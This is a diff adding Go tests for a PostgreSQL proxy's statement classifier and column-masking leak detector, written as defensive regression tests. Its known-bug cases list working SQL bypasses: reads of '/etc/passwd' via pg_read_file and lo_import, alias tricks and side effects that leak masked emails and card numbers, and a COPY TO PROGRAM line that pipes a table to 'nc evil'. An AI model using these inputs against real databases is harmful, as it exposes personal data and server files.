+	if err := s.classify(nil); !errors.Is(err, errUnsupported) {
+		t.Errorf("classify(nil) = %v, want errUnsupported", err)
+	}
+	if err := s.classify(&pg.Node{}); !errors.Is(err, errUnsupported) {
+		t.Errorf("classify(empty node) = %v, want errUnsupported", err)
+	}
+	for _, n := range []*pg.Node{
+		{Node: &pg.Node_SetOperationStmt{SetOperationStmt: &pg.SetOperationStmt{}}},
+		{Node: &pg.Node_ReturnStmt{ReturnStmt: &pg.ReturnStmt{}}},
+		{Node: &pg.Node_PlassignStmt{PlassignStmt: &pg.PLAssignStmt{}}},
+		{Node: &pg.Node_AConst{AConst: &pg.A_Const{}}},
+		{Node: &pg.Node_ExplainStmt{ExplainStmt: &pg.ExplainStmt{}}}, // EXPLAIN of nothing
+		{Node: &pg.Node_PrepareStmt{PrepareStmt: &pg.PrepareStmt{Query: &pg.Node{Node: &pg.Node_ReturnStmt{ReturnStmt: &pg.ReturnStmt{}}}}}},
+		{Node: &pg.Node_DeclareCursorStmt{DeclareCursorStmt: &pg.DeclareCursorStmt{}}},
+	} {
+		if _, err := stmtOps(n); !errors.Is(err, errUnsupported) {
+			t.Errorf("stmtOps(%T) = %v, want errUnsupported", n.GetNode(), err)
+		}
+		s := Statement{aliases: map[string][]string{}}
+		if err := s.classify(n); !errors.Is(err, errUnsupported) {
+			t.Errorf("classify(%T) = %v, want errUnsupported", n.GetNode(), err)
+		}
+	}
+}
+
+// Every statement node the parser can produce maps to operations: none
+// falls through to "unsupported" by omission.
+func TestStmtOpsCoversEveryStatementNode(t *testing.T) {
+	notTopLevel := map[string]bool{"RawStmt": true, "SetOperationStmt": true, "ReturnStmt": true, "PLAssignStmt": true}
+	od := (&pg.Node{}).ProtoReflect().Descriptor().Oneofs().Get(0)
+	n := 0
+	for i := 0; i < od.Fields().Len(); i++ {
+		fd := od.Fields().Get(i)
+		if fd.Message() == nil {
+			continue
+		}
+		name := string(fd.Message().Name())
+		if !strings.HasSuffix(name, "Stmt") || notTopLevel[name] {
+			continue
+		}
+		node := &pg.Node{}
+		r := node.ProtoReflect()
+		r.Set(fd, r.NewField(fd))
+		ops, err := opsOfNode(node)
+		if errors.Is(err, errNotStatement) {
+			t.Errorf("%s: not classified", name)
+			continue
+		}
+		// Wrappers (EXPLAIN, PREPARE, DECLARE) of nothing are unsupported.
+		if err == nil {
+			checkOpsWellFormedUnsorted(t, name, ops)
+		}
+		n++
+	}
+	if n < 100 {
+		t.Errorf("only %d statement nodes seen", n)
+	}
+}
+
+func checkOpsWellFormedUnsorted(t *testing.T, name string, ops []string) {
+	t.Helper()
+	if len(ops) == 0 {
+		t.Errorf("%s: no operations", name)
+	}
+	for _, op := range ops {
+		if !slices.Contains(policy.Vocabulary[policy.KindSQL], op) {
+			t.Errorf("%s: op %q is not in the sql vocabulary", name, op)
+		}
+	}
+}
+
+// Known classification gaps, each reported with its repro. Every case
+// states the correct behaviour.
+func TestClassifyKnownBugs(t *testing.T) {
+	cases := []struct {
+		bug  string
+		sql  string
+		want string // an op the statement must carry
+	}{
+		// PostgreSQL accepts attribute notation for one-argument functions:
+		// (x).f is f(x). The parse tree holds an A_Indirection, no FuncCall.
+		// Verified on PostgreSQL 15: SELECT ('/etc/hostname'::text).pg_read_file
+		// returns the file.
+		{"attribute-notation call", "SELECT ('/etc/hostname'::text).pg_read_file", "function"},
+		{"attribute-notation call", "SELECT (x).pg_ls_dir FROM (SELECT '.'::text AS x) s", "function"},
+		{"attribute-notation call", "SELECT (123).pg_terminate_backend", "function"},
+		{"attribute-notation call", "SELECT ('/etc/passwd'::text).lo_import", "function"},
+		// These return table data as XML just like table_to_xml.
+		{"xml data functions", "SELECT table_to_xml_and_xmlschema('customers', true, false, '')", "function"},
+		{"xml data functions", "SELECT schema_to_xml_and_xmlschema('public', true, false, '')", "function"},
+		{"xml data functions", "SELECT database_to_xml_and_xmlschema(true, false, '')", "function"},
+		// ts_stat and ts_rewrite run the SQL text they are given (read-only):
+		// verified on PostgreSQL 15, ts_stat('SELECT to_tsvector(pg_read_file(...))')
+		// returns the file's words.
+		{"SQL in a string", "SELECT * FROM ts_stat($$SELECT to_tsvector(pg_read_file('/etc/passwd'))$$)", "function"},
+		{"SQL in a string", "SELECT ts_rewrite('a'::tsquery, 'SELECT a, b FROM secrets')", "function"},
+		// Logical decoding over SQL reads every change of every table (the
+		// handler refuses replication connections for the same reason).
+		{"logical decoding", "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "function"},
+		{"logical decoding", "SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "function"},
+		// Changing an owner is a privilege change whatever the object.
+		{"owner via ALTER TABLE", "ALTER TABLE t OWNER TO bob", "grant"},
+		{"owner via ALTER TABLE", "ALTER VIEW v OWNER TO bob", "grant"},
+		{"owner via ALTER TABLE", "ALTER SEQUENCE s OWNER TO bob", "grant"},
+		// Row-level security on and off is policy, as CREATE/ALTER POLICY are.
+		{"row level security", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", "grant"},
+		{"row level security", "ALTER TABLE t NO FORCE ROW LEVEL SECURITY", "grant"},
+		{"row level security", "DROP POLICY p ON t", "grant"},
+		// RETURNING and UPDATE ... FROM / DELETE ... USING read rows.
+		{"reads without select", "DELETE FROM t USING secrets s WHERE true RETURNING s.*", "select"},
+		{"reads without select", "UPDATE t SET a = a FROM secrets s RETURNING s.*", "select"},
+	}
+	for _, c := range cases {
+		t.Run(c.sql, func(t *testing.T) {
+			s := classifyOne(t, c.sql)
+			if !has(s.Ops, c.want) {
+				knownBug(t, c.bug, "%s: Ops = %q, want %q among them", c.sql, s.Ops, c.want)
+			}
+		})
+	}
+
+	t.Run("pg_notify", func(t *testing.T) {
+		// pg_notify() is NOTIFY: a rule that denies notify must see it.
+		s := classifyOne(t, "SELECT pg_notify('ch', 'x')")
+		if !has(s.Ops, "notify") {
+			knownBug(t, "pg_notify is notify", "Ops = %q, want notify among them", s.Ops)
+		}
+	})
+	t.Run("INSERT VALUES needs select", func(t *testing.T) {
+		// A literal VALUES list reads nothing, but the nested SelectStmt
+		// adds "select": an insert-only rule cannot insert.
+		s := classifyOne(t, "INSERT INTO t VALUES (1)")
+		if has(s.Ops, "select") {
+			knownBug(t, "VALUES counted as select", "Ops = %q, want [insert]", s.Ops)
+		}
+	})
+	t.Run("nested EXECUTE", func(t *testing.T) {
+		// EXPLAIN ANALYZE EXECUTE p and CREATE TABLE x AS EXECUTE p run p,
+		// but Executes stays empty, so the session neither checks that p
+		// was prepared through it nor adds p's operations.
+		var wrong []string
+		for _, sql := range []string{"EXPLAIN ANALYZE EXECUTE p", "CREATE TABLE x AS EXECUTE p"} {
+			if s := classifyOne(t, sql); s.Executes != "p" {
+				wrong = append(wrong, fmt.Sprintf("%s: Executes = %q, want p", sql, s.Executes))
+			}
+		}
+		if len(wrong) > 0 {
+			knownBug(t, "nested EXECUTE", "%s", strings.Join(wrong, "; "))
+		}
+	})
+}
+
+// --- masks.leak ---
+
+var leakMasks = []policy.Mask{
+	{Columns: []string{"customers.email", "public.customers.card"}, Method: "partial"},
+	{Columns: []string{"billing.invoices.iban"}, Method: "redact"},
+}
+
+func TestMaskLeak(t *testing.T) {
+	m := compileMasks(leakMasks)
+	cases := []struct {
+		sql  string
+		leak bool
+	}{
+		// Direct columns are masked by RowDescription: no leak.
+		{"SELECT email FROM customers", false},
+		{"SELECT id, email, card FROM customers WHERE id = 1", false},
+		{"SELECT c.email FROM customers c", false},
+		{"SELECT c.email AS e FROM customers AS c", false},
+		{"SELECT customers.email FROM customers", false},
+		{"SELECT public.customers.card FROM public.customers", false},
+		{"SELECT * FROM customers", false},
+		{"SELECT c.* FROM customers c", false},
+		{"TABLE customers", false},
+		{"SELECT email FROM customers FOR UPDATE", false},
+		{"DELETE FROM customers WHERE id = 1 RETURNING email", false},
+		// Masked columns only where they filter: no leak.
+		{"SELECT id FROM customers WHERE email = 'a@b.c'", false},
+		{"SELECT id FROM customers ORDER BY email", false},
+		{"SELECT count(*) FROM customers GROUP BY email", false},
+		{"SELECT count(*) FROM customers GROUP BY email HAVING max(card) > ''", false},
+		{"SELECT o.id FROM orders o JOIN customers c ON c.email = o.email", false},
+		{"SELECT DISTINCT ON (email) id FROM customers ORDER BY email", false},
+		{"SELECT id FROM customers LIMIT (SELECT 1)", false},
+		{"UPDATE customers SET id = 2 WHERE email = 'x'", false},
+		{"DELETE FROM customers WHERE card LIKE '4%'", false},
+		// Tables without masks.
+		{"SELECT lower(email) FROM orders", false},
+		{"SELECT row_to_json(o) FROM orders o", false},
+		{"COPY orders TO STDOUT", false},
+		{"SELECT (SELECT email FROM orders LIMIT 1)", false},
+		{"SELECT lower(iban) FROM invoices", true}, // bare table of a schema-qualified mask
+		{"SELECT lower(iban) FROM billing.invoices", true},
+		{"SELECT iban FROM billing.invoices", false},
+		// COPY into the table is fine.
+		{"COPY customers FROM STDIN", false},
+		{"INSERT INTO customers (email) VALUES ('x')", false},
+
+		// Inside expressions the result column has no table: refused.
+		{"SELECT lower(email) FROM customers", true},
+		{"SELECT upper(c.email) FROM customers c", true},
+		{"SELECT lower(customers.email) FROM customers", true},
+		{"SELECT public.customers.email || '' FROM public.customers", true},
+		{"SELECT email || '' FROM customers", true},
+		{"SELECT email::text FROM customers", true},
+		{"SELECT CASE WHEN id > 0 THEN email END FROM customers", true},
+		{"SELECT coalesce(card, 'none') FROM customers", true},
+		{"SELECT array_agg(email) FROM customers", true},
+		{"SELECT lag(email) OVER () FROM customers", true},
+		{"SELECT lower(card) FROM public.customers", true},
+		{"SELECT lower(C.EMAIL) FROM CUSTOMERS C", true},
+		// CTEs, subqueries, set operations.
+		{"WITH x AS (SELECT email FROM customers) SELECT * FROM x", true},
+		{"WITH x AS (SELECT email FROM customers) SELECT email FROM x", true},
+		{"SELECT * FROM (SELECT email FROM customers) s", true},
+		{"SELECT s.e FROM (SELECT c.email AS e FROM customers c) s", true},
+		{"SELECT (SELECT email FROM customers LIMIT 1)", true},
+		{"SELECT (SELECT email) FROM customers", true},
+		{"SELECT id, (SELECT c2.card FROM customers c2 LIMIT 1) FROM orders", true},
+		{"SELECT email FROM customers UNION SELECT 'x'", true},
+		{"SELECT 'x' UNION ALL SELECT email FROM customers", true},
+		{"VALUES ((SELECT email FROM customers LIMIT 1))", true},
+		// Whole rows and stars inside anything.
+		{"SELECT c FROM customers c", true},
+		{"SELECT customers FROM customers", true},
+		{"SELECT row_to_json(c) FROM customers c", true},
+		{"SELECT to_json(c.*) FROM customers c", true},
+		{"SELECT json_agg(c) FROM customers c", true},
+		{"SELECT (c).email FROM customers c", true},
+		{"SELECT (customers.*).email FROM customers", true},
+		{"SELECT x.* FROM (SELECT * FROM customers) x", true},
+		{"SELECT * FROM (SELECT * FROM customers) x", true},
+		{"SELECT count(*) FROM (SELECT * FROM customers) x", true},
+		{"UPDATE customers SET id = 1 RETURNING customers", true},
+		{"DELETE FROM customers RETURNING lower(email)", true},
+		// COPY out of a masked table bypasses RowDescription.
+		{"COPY customers TO STDOUT", true},
+		{"COPY public.customers (id) TO STDOUT", true},
+		{"COPY (SELECT email FROM customers) TO STDOUT", true},
+		{"COPY (SELECT id FROM customers) TO STDOUT", true},
+		// Copying masked values elsewhere.
+		{"UPDATE orders SET note = c.email FROM customers c WHERE c.id = orders.cid", true},
+		{"UPDATE orders SET note = (SELECT email FROM customers LIMIT 1)", true},
+		{"INSERT INTO orders (note) SELECT email FROM customers", true},
+		{"INSERT INTO orders (note) VALUES ((SELECT card FROM customers LIMIT 1))", true},
+		{"CREATE TABLE x AS SELECT email FROM customers", true},
+		{"MERGE INTO orders o USING customers c ON o.cid = c.id WHEN NOT MATCHED THEN INSERT (note) VALUES (c.email)", true},
+		{"DECLARE cur CURSOR FOR SELECT lower(email) FROM customers", true},
+	}
+	for _, c := range cases {
+		t.Run(c.sql, func(t *testing.T) {
+			s := classifyOne(t, c.sql)
+			got := m.leak(&s)
+			if (got != "") != c.leak {
+				t.Errorf("leak = %q, want leak %v", got, c.leak)
+			}
+		})
+	}
+
+	// No masks, no leaks.
+	s := classifyOne(t, "SELECT lower(email) FROM customers")
+	if got := (*masks)(nil).leak(&s); got != "" {
+		t.Errorf("nil masks: leak = %q", got)
+	}
+	if got := compileMasks(nil).leak(&s); got != "" {
+		t.Errorf("no masks: leak = %q", got)
+	}
+	// Detect-only masks name no column: no statement is refused.
+	if got := compileMasks([]policy.Mask{{Detect: []string{"email"}, Method: "redact"}}).leak(&s); got != "" {
+		t.Errorf("detect-only masks: leak = %q", got)
+	}
+}
+
+func TestMaskLeakNamesTheColumn(t *testing.T) {
+	m := compileMasks(leakMasks)
+	for sql, want := range map[string]string{
+		"SELECT lower(email) FROM customers":       "customers.email",
+		"SELECT c FROM customers c":                "customers (whole row)",
+		"COPY customers TO STDOUT":                 "customers (COPY ... TO)",
+		"SELECT row_to_json(c.*) FROM customers c": "customers.*",
+	} {
+		s := classifyOne(t, sql)
+		if got := m.leak(&s); got != want {
+			t.Errorf("%s: leak = %q, want %q", sql, got, want)
+		}
+	}
+}
+
+// Known ways a masked column leaves unmasked with leak() saying nothing.
+func TestMaskLeakKnownBugs(t *testing.T) {
+	m := compileMasks(leakMasks)
+	cases := []struct{ bug, sql string }{
+		// One alias map for the whole statement: an alias reused in another
+		// scope rebinds it, and the masked reference is attributed to the
+		// other table. pg_class exists everywhere.
+		{"alias shadowing", "SELECT (SELECT c.email FROM customers c LIMIT 1) FROM pg_class c"},
+		{"alias shadowing", "SELECT (SELECT c FROM customers c LIMIT 1) FROM pg_class c"},
+		{"alias shadowing", "SELECT (SELECT row_to_json(c.*) FROM customers c LIMIT 1) FROM pg_class c"},
+		{"alias shadowing", "SELECT lower(x.e) FROM (SELECT c.email AS e FROM customers c) x, pg_class c"},
+		// Column aliases in FROM rename masked columns (customers is
+		// id, email, card).
+		{"column alias list", "SELECT lower(e) FROM customers AS c(i, e)"},
+		{"column alias list", "SELECT lower(c.id) FROM customers AS c(email, id)"},
+		// The same, copying the values into another table, where no
+		// result-side withholding can catch them afterwards.
+		{"alias shadowing", "INSERT INTO notes (body) SELECT (SELECT c.email FROM customers c LIMIT 1) FROM pg_class c"},
+		{"column alias list", "INSERT INTO notes (body) SELECT e FROM customers AS c(i, e)"},
+		{"column alias list", "UPDATE notes SET body = e FROM customers AS c(i, e)"},
+		// SELECT INTO writes the masked values into a new table, as
+		// CREATE TABLE AS does (which is refused).
+		{"SELECT INTO", "SELECT email INTO stolen FROM customers"},
+		{"SELECT INTO", "SELECT * INTO stolen FROM customers"},
+		// COPY of a masked table to a server file or program.
+		{"COPY to file", "COPY customers TO '/tmp/customers.csv'"},
+		{"COPY to file", "COPY customers TO PROGRAM 'nc evil 1'"},
+		// Side effects and errors in "filter" positions return the value
+		// by another way (verified on PostgreSQL 15).
+		{"filter side effects", "SELECT 1 FROM customers WHERE pg_notify('ch', email) IS NULL"},
+		{"filter side effects", "SELECT 1 FROM customers WHERE set_config('my.v', email, false) IS NOT NULL"},
+		// The masked table is named in a string, or read through statistics.
+		{"SQL in a string", "SELECT word FROM ts_stat('SELECT to_tsvector(email) FROM customers')"},
+		{"SQL in a string", "SELECT query_to_xml('SELECT email FROM customers', true, false, '')"},
+		{"SQL in a string", "SELECT table_to_xml('customers', true, false, '')"},
+		{"statistics", "SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers' AND attname = 'email'"},
+	}
+	for _, c := range cases {
+		t.Run(c.sql, func(t *testing.T) {
+			s := classifyOne(t, c.sql)
+			if got := m.leak(&s); got == "" {
+				knownBug(t, c.bug, "%s: leak() = \"\", want the masked column named", c.sql)
+			}
+		})
+	}
+}
